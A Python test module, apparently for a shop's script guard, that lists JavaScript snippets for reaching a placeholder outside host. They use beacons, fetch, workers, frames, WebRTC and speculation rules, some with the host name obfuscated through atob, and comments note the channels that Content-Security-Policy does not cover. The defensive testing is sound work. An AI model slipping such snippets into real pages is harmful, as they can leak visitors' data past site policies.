"""Vectors in JavaScript, each inline and as a file of the shop, some with the host's name hidden.

In each script the host is written in double quotes, as part of a string: a hidden name is joined there.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import django

from .vector import CLASSIC, File, Vector

JQUERY = Path(django.__file__).parent / "contrib/admin/static/admin/js/vendor/jquery/jquery.min.js"
NAVIGATES = "a navigation: a policy cannot tell it from a click"
FRAME = "frame-src refuses the frame, but Chromium has its connection open by then"
EMPTY_FRAME = (
    "nobody hears of the location of an empty frame: it cannot be watched, and fires no navigate event"
)
HINTS = "no policy directive covers preconnect and dns-prefetch"

REQUESTS = {
    "image": 'new Image().src = "$U/a.gif";',
    "image-srcset": 'new Image().srcset = "$U/a.gif 1x";',
    "image-late": 'setTimeout(() => { new Image().src = "$U/a.gif"; }, 500);',
    "fetch": 'fetch("$U/a.json").catch(() => 0);',
    "fetch-no-cors": 'fetch("$U/a.json", {mode: "no-cors", method: "POST", body: "x"}).catch(() => 0);',
    "fetch-request": 'fetch(new Request("$U/a.json")).catch(() => 0);',
    "fetch-keepalive-pagehide": 'addEventListener("pagehide", () => fetch("$U/bye", {keepalive: true, '
    'method: "POST", mode: "no-cors", body: "x"}).catch(() => 0));',
    "fetch-later": 'fetchLater("$S/later");',
    "xhr": 'var x = new XMLHttpRequest(); x.open("GET", "$U/a.json"); x.send();',
    "xhr-sync": 'try { var x = new XMLHttpRequest(); x.open("GET", "$U/a.json", false); x.send(); } catch (e) {}',
    "beacon": 'navigator.sendBeacon("$U/beacon", "x");',
    "beacon-hidden": 'document.addEventListener("visibilitychange", () => navigator.sendBeacon("$U/hidden", "x"));',
    "beacon-pagehide": 'addEventListener("pagehide", () => navigator.sendBeacon("$U/bye", "x"));',
    "beacon-scroll": 'addEventListener("scroll", () => navigator.sendBeacon("$U/scroll", "x"), {once: true});',
    "beacon-click": 'addEventListener("click", () => navigator.sendBeacon("$U/click", "x"));',
    "beacon-idle": 'requestIdleCallback(() => navigator.sendBeacon("$U/idle", "x"), {timeout: 500});',
    "websocket": 'new WebSocket("$W/socket");',
    "eventsource": 'new EventSource("$U/a.events");',
    "import": 'import("$U/a.js").catch(() => 0);',
    "import-json": 'import("$U/a.json", {with: {type: "json"}}).catch(() => 0);',
    "write-script": 'document.write("<script src=$U/a.classic><\\/script>");',
    "write-img": 'document.write("<img src=$U/a.gif>");',
    "write-late": 'addEventListener("load", () => { document.open(); document.write("<p>new</p><img src=$U/a.gif>"); '
    "document.close(); });",
    "inner-html": 'var d = document.createElement("div"); d.innerHTML = "<img src=$U/a.gif>";',
    "insert-adjacent": 'document.documentElement.insertAdjacentHTML("beforeend", "<img src=$U/a.gif>");',
    "html-unsafe": 'document.createElement("div").setHTMLUnsafe("<img src=$U/a.gif>");',
    "fragment": "document.documentElement.append(document.createRange().createContextualFragment("
    '"<img src=$U/a.gif><script src=$U/a.classic><\\/script>"));',
    "parser": "document.documentElement.append(...new DOMParser().parseFromString("
    '"<img src=$U/a.gif>", "text/html").images);',
    "template-clone": 'var t = document.createElement("template"); t.innerHTML = "<img src=$U/a.gif>"; '
    "document.documentElement.append(t.content.cloneNode(true));",
    "shadow": 'var d = document.createElement("div"); document.documentElement.append(d); '
    'd.attachShadow({mode: "closed"}).innerHTML = "<img src=$U/a.gif>";',
    "create-script": 'var e = document.createElement("script"); e.src = "$U/a.classic"; '
    "document.documentElement.append(e);",
    "create-module": 'var e = document.createElement("script"); e.type = "module"; e.src = "$U/a.js"; '
    "document.documentElement.append(e);",
    "create-inline-script": 'var e = document.createElement("script"); e.text = "new Image().src=\'$U/a.gif\'"; '
    "document.documentElement.append(e);",
    "create-img-attribute": 'document.createElement("img").setAttribute("src", "$U/a.gif");',
    "create-stylesheet": 'var e = document.createElement("link"); e.rel = "stylesheet"; e.href = "$U/a.css"; '
    "document.documentElement.append(e);",
    "create-preload": 'var e = document.createElement("link"); e.rel = "preload"; e.as = "image"; '
    'e.href = "$U/a.gif"; document.documentElement.append(e);',
    "create-prefetch": 'var e = document.createElement("link"); e.rel = "prefetch"; e.href = "$U/a.html"; '
    "document.documentElement.append(e);",
    "create-modulepreload": 'var e = document.createElement("link"); e.rel = "modulepreload"; '
    'e.href = "$U/a.js"; document.documentElement.append(e);',
    "create-embed": 'var e = document.createElement("embed"); e.src = "$U/a.svg"; '
    "document.documentElement.append(e);",
    "create-object": 'var e = document.createElement("object"); e.data = "$U/a.svg"; '
    "document.documentElement.append(e);",
    "create-video": 'var e = document.createElement("video"); e.src = "$U/a.mp4"; e.load();',
    "create-poster": 'var e = document.createElement("video"); e.poster = "$U/a.gif"; '
    "document.documentElement.append(e);",
    "audio": 'new Audio("$U/a.mp3").play().catch(() => 0);',
    "create-input": 'var e = document.createElement("input"); e.type = "image"; e.src = "$U/a.gif"; '
    "document.documentElement.append(e);",
    "create-svg-image": 'var s = document.createElementNS("http://www.w3.org/2000/svg", "svg"), '
    'e = document.createElementNS("http://www.w3.org/2000/svg", "image"); '
    'e.setAttribute("href", "$U/a.gif"); s.append(e); document.documentElement.append(s);',
    "create-base": 'var b = document.createElement("base"); b.href = "$U/"; document.head.append(b); '
    'new Image().src = "a.gif";',
    "create-style": 'var e = document.createElement("style"); e.textContent = "html{background:url($U/a.gif)}"; '
    "document.head.append(e);",
    "style-property": 'document.documentElement.style.backgroundImage = "url($U/a.gif)";',
    "style-text": 'document.documentElement.style.cssText = "background:url($U/a.gif)";',
    "style-attribute": 'document.documentElement.setAttribute("style", "background:url($U/a.gif)");',
    "insert-rule": 'var e = document.createElement("style"); document.head.append(e); '
    'e.sheet.insertRule("html{background:url($U/a.gif)}");',
    "adopted-sheet": 'var s = new CSSStyleSheet(); s.replaceSync("html{background:url($U/a.gif)}"); '
    "document.adoptedStyleSheets = [s];",
    "font-face": 'new FontFace("x", "url($U/a.woff2)").load().catch(() => 0);',
    "cache-add": 'caches.open("x").then(c => c.add("$U/a.json")).catch(() => 0);',
    "wasm": 'WebAssembly.compileStreaming(fetch("$U/a.wasm")).catch(() => 0);',
    "worker-blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('$U/a.json').catch(() => 0)\"])));",
    "worker-blob-import": "new Worker(URL.createObjectURL(new Blob([\"importScripts('$U/a.classic')\"])));",
    "worker-data": "new Worker(\"data:text/javascript,fetch('$U/a.json').catch(() => 0)\");",
    "frame-srcdoc": 'var f = document.createElement("iframe"); f.srcdoc = "<img src=$U/a.gif>"; '
    "document.documentElement.append(f);",
    "frame-written": 'var f = document.createElement("iframe"); document.documentElement.append(f); '
    'f.contentDocument.write("<img src=$U/a.gif>");',
    "frame-image": 'var f = document.createElement("iframe"); document.documentElement.append(f); '
    'new f.contentWindow.Image().src = "$U/a.gif";',
    "frame-blob": 'var f = document.createElement("iframe"); '
    'f.src = URL.createObjectURL(new Blob(["<img src=$U/a.gif>"], {type: "text/html"})); '
    "document.documentElement.append(f);",
    "frame-data": 'var f = document.createElement("iframe"); f.src = "data:text/html,<img src=$U/a.gif>"; '
    "document.documentElement.append(f);",
    "frame-javascript": 'var f = document.createElement("iframe"); '
    "f.src = \"javascript:'<img src=$U/a.gif>'\"; document.documentElement.append(f);",
    "popup-written": 'var w = open("about:blank"); w.document.write("<img src=$U/a.gif>");',
    "ping-click": 'var a = document.createElement("a"); a.href = "#x"; a.ping = "$U/ping"; '
    "document.documentElement.append(a); a.click();",
    "eval": 'eval("new Image().src = \\"$U/a.gif\\"");',
    "timer-text": 'setTimeout("new Image().src = \\"$U/a.gif\\"", 100);',
    "function-text": 'new Function("new Image().src = \\"$U/a.gif\\"")();',
    "report-image-error": 'var i = new Image(); i.onerror = () => fetch("$U/a.json").catch(() => 0); i.src = "/none";',
    "import-map": 'var e = document.createElement("script"); e.type = "importmap"; '
    'e.text = JSON.stringify({imports: {x: "$U/a.js"}}); document.head.append(e); import("x").catch(() => 0);',
}
# Those whose name is written so that no reading of the text finds it.
HIDDEN = frozenset(
    "image fetch xhr beacon beacon-pagehide websocket eventsource import write-script inner-html create-script "
    "create-stylesheet create-prefetch style-property insert-rule font-face worker-blob frame-srcdoc frame-image "
    "frame-blob popup-written eval".split()
)

SPECULATES = "prefetching by speculation rules is a navigation ahead of its click: no directive covers it"
WEBRTC = "no directive that a browser ships covers WebRTC"
PASSKEYS = "browsers ask a host whether its passkeys are for others too, and no directive covers that"
LEAKS = {
    PASSKEYS: frozenset({"request", "connection", "lookup"}),
    NAVIGATES: frozenset({"request", "connection", "lookup"}),
    SPECULATES: frozenset({"request", "connection", "lookup"}),
    FRAME: frozenset({"connection", "lookup"}),
    EMPTY_FRAME: frozenset({"connection", "lookup"}),
    HINTS: frozenset({"connection", "lookup"}),
    WEBRTC: frozenset({"datagram", "lookup"}),
}
# The guard holds these in the browser, wherever the script stands.
HELD = frozenset(
    "preconnect dns-prefetch frame frame-inner-html form-in-frame meta-refresh speculation speculation-words stun "
    "passkey passkey-gone".split()
)
NEED_WINDOW = frozenset({"speculation", "speculation-words"})
# (script, what the control shows, why it gets out of a file of the shop's own all the same)
LIMITS = {
    "preconnect": (
        'var e = document.createElement("link"); e.rel = "preconnect"; e.href = "$U"; document.head.append(e);',
        "connection",
        HINTS,
    ),
    "dns-prefetch": (
        'var e = document.createElement("link"); e.rel = "dns-prefetch"; e.href = "$U"; document.head.append(e);',
        "lookup",
        HINTS,
    ),
    "frame": (
        'var f = document.createElement("iframe"); f.src = "$U/a.html"; document.documentElement.append(f);',
        "request",
        FRAME,
    ),
    "frame-inner-html": (
        'document.documentElement.insertAdjacentHTML("beforeend", "<iframe src=$U/a.html></iframe>");',
        "request",
        FRAME,
    ),
    "form-in-frame": (
        (
            'var f = document.createElement("iframe"); f.name = "t"; var g = document.createElement("form"); '
            'g.action = "$U/form"; g.method = "post"; g.target = "t"; '
            "document.documentElement.append(f, g); g.submit();"
        ),
        "request",
        FRAME,
    ),
    "location": ('location.href = "$U/a.html";', "request", NAVIGATES),
    "form": (
        (
            'var g = document.createElement("form"); g.action = "$U/form"; g.method = "post"; '
            "document.documentElement.append(g); g.submit();"
        ),
        "request",
        NAVIGATES,
    ),
    "open": ('open("$U/a.html");', "request", NAVIGATES),
    "link-click": (
        'var a = document.createElement("a"); a.href = "$U/a.html"; document.documentElement.append(a); a.click();',
        "request",
        NAVIGATES,
    ),
    "meta-refresh": (
        (
            'var e = document.createElement("meta"); e.httpEquiv = "refresh"; e.content = "0;url=$U/a.html"; '
            "document.head.append(e);"
        ),
        "request",
        NAVIGATES,
    ),
    "speculation": (
        (
            'for (const way of ["text", "textContent", "innerText", "innerHTML"]) { '
            'const e = document.createElement("script"); e.type = "speculationrules"; '
            'e[way] = JSON.stringify({prefetch: [{source: "list", urls: ["$S/a.html?" + way]}]}); '
            "document.head.append(e); }"
        ),
        "request",
        SPECULATES,
    ),
    # Rules as markup, which name what the guard looks for in markup.
    "speculation-words": (
        (
            'for (const [way, type] of [["innerHTML", "speculationrules"], ["innerHTML", "SpeculationRules"], '
            '["setHTMLUnsafe", "speculationrules"], ["insertAdjacentHTML", "speculationrules"]]) { '
            'const e = document.createElement("script"); e.type = type; '
            'const rules = JSON.stringify({prefetch: [{source: "list", urls: ["$S/prerender?" + way + type]}]}); '
            'if (way == "innerHTML") e.innerHTML = rules; else e[way](...(way[0] == "i" ? ["beforeend"] : []), rules); '
            "document.head.append(e); }"
        ),
        "request",
        SPECULATES,
    ),
    "stun": (
        (
            'var p = new RTCPeerConnection({iceServers: [{urls: "stun:$H:$P"}]}); p.createDataChannel("x"); '
            "p.createOffer().then(o => p.setLocalDescription(o));"
        ),
        "datagram",
        WEBRTC,
    ),
    "passkey": (
        'navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: "$H"}}).catch(() => 0);',
        "request",
        PASSKEYS,
    ),
    "passkey-gone": (
        'PublicKeyCredential.signalUnknownCredential({rpId: "$H", credentialId: "AAAA"}).catch(() => 0);',
        "request",
        PASSKEYS,
    ),
}

# Frames in ways that take more than a look at one expression, where the script stands in the page.
FRAMES = {
    "in-variable": 'var html = "<iframe src=$U/a.html></iframe>"; document.body.innerHTML = html;',
    "around-address": 'var u = "$U/a.html", m = "<iframe src=" + u + ">"; document.body.insertAdjacentHTML('
    '"beforeend", m);',
    "returned": 'function made() { return "<iframe src=$U/a.html></iframe>"; } document.write(made());',
    "put-together": 'var m = []; m.push("<iframe src=$U/a.html>"); m.push("</iframe>"); document.write(m.join(""));',
    "handed-on": 'function put(m) { document.body.innerHTML = m; } put("<iframe src=$U/a.html></iframe>");',
    "refresh-written": "var m = \"<meta http-equiv=refresh content='0;url=$U/a.html'>\"; document.write(m);",
    "quoted-call": 'document["write"]("<iframe src=$U/a.html></iframe>");',
    "spaced": 'var f = document.createElement("iframe"); f./* x */src = "$U/a.html"; document.body.append(f);',
    "sent": 'var f = document.createElement("iframe"); document.body.append(f); '
    'f.contentWindow.location.replace("$U/a.html");',
    "moved": 'var f = document.createElement("iframe"); document.body.append(f); frames[0].location = "$U/a.html";',
    "navigated": 'var f = document.createElement("iframe"); document.body.append(f); '
    'f.contentWindow.navigation.navigate("$U/a.html");',
    "template": 'var h = "$H", f = document.createElement("iframe"); f.src = `http://${h}/a.html`; '
    "document.body.append(f);",
    "class": "class Widget { constructor(url) { this.url = url; } show() { "
    'var f = document.createElement("iframe"); f.src = this.url; document.body.append(f); } } '
    'new Widget("$U/a.html").show();',
    "late": f'var state = "{"x" * 140_000}"; '
    'document.body.insertAdjacentHTML("beforeend", "<iframe src=$U/a.html></iframe>");',
    "returned-if": 'function of(k) { if (k) return "$U/a.html"; return "/own.html"; } '
    'var f = document.createElement("iframe"); f.src = of(1); document.body.append(f);',
    "behind-regexp": "function quoted(s) { return/'/.test(s); } "
    'var f = document.createElement("iframe"); f.src = "$U/a.html"; document.body.append(f); var end = "\'";',
    "timer-argument": 'setTimeout(function (u) { var f = document.createElement("iframe"); f.src = u; '
    'document.body.append(f); }, 10, "$U/a.html");',
    "built": 'var h = "<iframe src=\'"; h += "$U/a.html"; h += "\'></iframe>"; '
    'document.body.insertAdjacentHTML("beforeend", h);',
    "kept-window": 'var f = document.createElement("iframe"); document.body.append(f); var w = f.contentWindow; '
    'w.location = "$U/a.html";',
    "jquery-attr": 'jQuery("<iframe>").attr("src", "$U/a.html").appendTo("body");',
    "jquery-prop": 'jQuery("<iframe/>").prop("src", "$U/a.html").appendTo("body");',
    "jquery-blanks": 'jQuery("\\n <iframe src=$U/a.html></iframe>").appendTo("body");',
    "jquery-parser": 'var m = jQuery.parseHTML("<iframe src=$U/a.html></iframe>"); jQuery("body").append(m);',
    "jquery-wrap": 'jQuery("p").wrapAll("<div><iframe src=$U/a.html></iframe></div>");',
    "jquery-add": 'jQuery("p").add("<iframe src=$U/a.html></iframe>").appendTo("body");',
    "jquery-renamed": 'var $$j = jQuery.noConflict(); $$j("<iframe src=$U/a.html></iframe>").appendTo("body");',
}
EMPTY = frozenset({"frame-sent", "frame-moved", "frame-navigated", "frame-kept-window"})
SERVERS = {
    "joined": 'var p = new RTCPeerConnection({iceServers: [{urls: "stun:" + "$H" + ":$P"}]}); '
    'p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o));',
}
OPTIONS = {
    "options": 'document.head.append(Object.assign(document.createElement("link"), '
    '{rel: "preconnect", href: "$U"}));',
    "jquery": 'jQuery("<link rel=preconnect>").attr("href", "$U").appendTo("head");',
}

# Whose host one engine looks up before anybody clicks.
LOOKUPS = {
    "link-plain": (
        'var a = document.createElement("a"); a.href = "$U/a.html"; document.documentElement.append(a);'
    ),
    "link-plain-inner-html": (
        'document.documentElement.insertAdjacentHTML("beforeend", "<a href=$U/a.html>elsewhere</a>");'
    ),
}

# Files of the shop's own that a page runs: (what the page does, the files it takes).
CONTEXTS = {
    "worker": ('new Worker("$F/w.js");', {"w.js": 'fetch("$U/a.json").catch(() => 0);'}),
    "worker-import": ('new Worker("$F/w.js");', {"w.js": 'importScripts("$U/a.classic");'}),
    "worker-module": (
        'new Worker("$F/w.js", {type: "module"});',
        {"w.js": 'import("$U/a.js").catch(() => 0);'},
    ),
    "worker-socket": ('new Worker("$F/w.js");', {"w.js": 'new WebSocket("$W/socket");'}),
    "worker-nested": (
        'new Worker("$F/w.js");',
        {"w.js": 'new Worker("$F/v.js");', "v.js": 'fetch("$U/a.json").catch(() => 0);'},
    ),
    "worker-xhr": (
        'new Worker("$F/w.js");',
        {"w.js": 'var x = new XMLHttpRequest(); x.open("GET", "$U/a.json"); x.send();'},
    ),
    "shared-worker": ('new SharedWorker("$F/w.js");', {"w.js": 'fetch("$U/a.json").catch(() => 0);'}),
    "service-worker": (
        'navigator.serviceWorker.register("$F/w.js");',
        {"w.js": 'addEventListener("install", e => e.waitUntil(fetch("$U/a.json").catch(() => 0)));'},
    ),
    "service-worker-import": (
        'navigator.serviceWorker.register("$F/w.js");',
        {"w.js": 'importScripts("$U/a.classic");'},
    ),
    "service-worker-answers": (
        (
            'navigator.serviceWorker.register("$F/w.js").then(r => { var w = r.installing || r.waiting || r.active, '
            "f = document.createElement('iframe'); f.src = '$F/inner.html'; "
            "var go = () => w.state == 'activated' && document.documentElement.append(f); "
            "w.onstatechange = go; go(); });"
        ),
        {
            "w.js": 'addEventListener("fetch", e => { if (e.request.url.includes("pic")) e.respondWith('
            'fetch("$U/a.gif", {mode: "no-cors"})); });',
            "inner.html": '<!doctype html><title>inner</title><img src="pic.gif">',
        },
    ),
    "service-worker-makes": (
        (
            'navigator.serviceWorker.register("$F/w.js").then(r => { var w = r.installing || r.waiting || r.active, '
            "f = document.createElement('iframe'); f.src = '$F/made.html'; "
            "var go = () => w.state == 'activated' && document.documentElement.append(f); "
            "w.onstatechange = go; go(); });"
        ),
        {
            "w.js": "'use strict'; addEventListener('fetch', e => { if (e.request.url.includes('made')) "
            "e.respondWith(new Response('<!doctype html><title>made</title><img src=$U/a.gif>', "
            "{headers: {'content-type': 'text/html'}})); });",
        },
    ),
    "module-file": ('import("$F/m.js").catch(() => 0);', {"m.js": 'import "$U/a.js";'}),
    "module-css": (
        'import("$F/m.js").catch(() => 0);',
        {"m.js": 'import s from "$U/a.css" with {type: "css"};'},
    ),
    "audio-worklet": (
        'new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("$F/w.js").catch(() => 0);',
        {"w.js": 'import "$U/a.js"; registerProcessor("x", class extends AudioWorkletProcessor {});'},
    ),
    "fetch-redirected": ('fetch("$GO").catch(() => 0);', {}),
    "image-redirected": ('new Image().src = "$GO";', {}),
    "beacon-redirected": ('navigator.sendBeacon("$GO", "x");', {}),
    "import-redirected": ('import("$GO").catch(() => 0);', {}),
    "eventsource-redirected": ('new EventSource("$GO");', {}),
}


def vectors() -> Iterator[Vector]:
    """Yield every way of this module."""
    for name, script in REQUESTS.items():
        yield from _delivered(name, script)
        if name in HIDDEN:
            yield Vector(name=f"js-{name}-hidden", body=f"<script>{hide(script)}</script>", script="on")
    for name, script in LOOKUPS.items():
        yield from _delivered(name, script, tells="lookup")
    for name, (script, tells, why) in LIMITS.items():
        for vector in _delivered(name, script, tells=tells):
            is_held = name in HELD
            needs_window = name in NEED_WINDOW
            leaks = frozenset[str]() if is_held else LEAKS[why]
            yield replace(vector, leaks=leaks, why="" if is_held else why, needs_window=needs_window)
    yield from _inline()
    for name, (script, texts) in CONTEXTS.items():
        files = {
            path: File(kind=CLASSIC if path.endswith(".js") else "text/html", body=text)
            for path, text in texts.items()
        }
        yield Vector(name=f"js-{name}", body=f"<script>{script}</script>", script="on", files=files)


def hide(script: str) -> str:
    """Write the host's name so that only running the script tells it."""
    joined = re.sub(r"\$([USW])\b", lambda match: f'{SCHEMES[match[1]]}"+H+"', script)
    return f'var H = atob("$B"); {joined}'


SCHEMES = {"U": "http://", "S": "https://", "W": "ws://"}


def _delivered(name: str, script: str, *, tells: str = "request") -> Iterator[Vector]:
    yield Vector(name=f"js-{name}-inline", body=f"<script>{script}</script>", script="on", tells=tells)
    files = {"own.js": File(kind=CLASSIC, body=script)}
    yield Vector(
        name=f"js-{name}-file",
        body='<script src="$F/own.js"></script>',
        script="on",
        tells=tells,
        files=files,
    )


def _inline() -> Iterator[Vector]:
    jquery = {"jquery.js": File(kind=CLASSIC, body=JQUERY.read_text().replace("$", "$$"))}
    kinds = (
        ("frame", FRAMES, "request"),
        ("preconnect", OPTIONS, "connection"),
        ("stun", SERVERS, "datagram"),
    )
    for kind, ways, tells in kinds:
        for name, script in ways.items():
            library = '<script src="$F/jquery.js"></script>' if "jquery" in name else ""
            body = f"<p>text</p>{library}<script>{script}</script>"
            why = EMPTY_FRAME if f"{kind}-{name}" in EMPTY else ""
            leaks = LEAKS.get(why, frozenset())
            yield Vector(
                name=f"js-{kind}-{name}",
                body=body,
                script="on",
                tells=tells,
                files=jquery,
                leaks=leaks,
                why=why,
            )
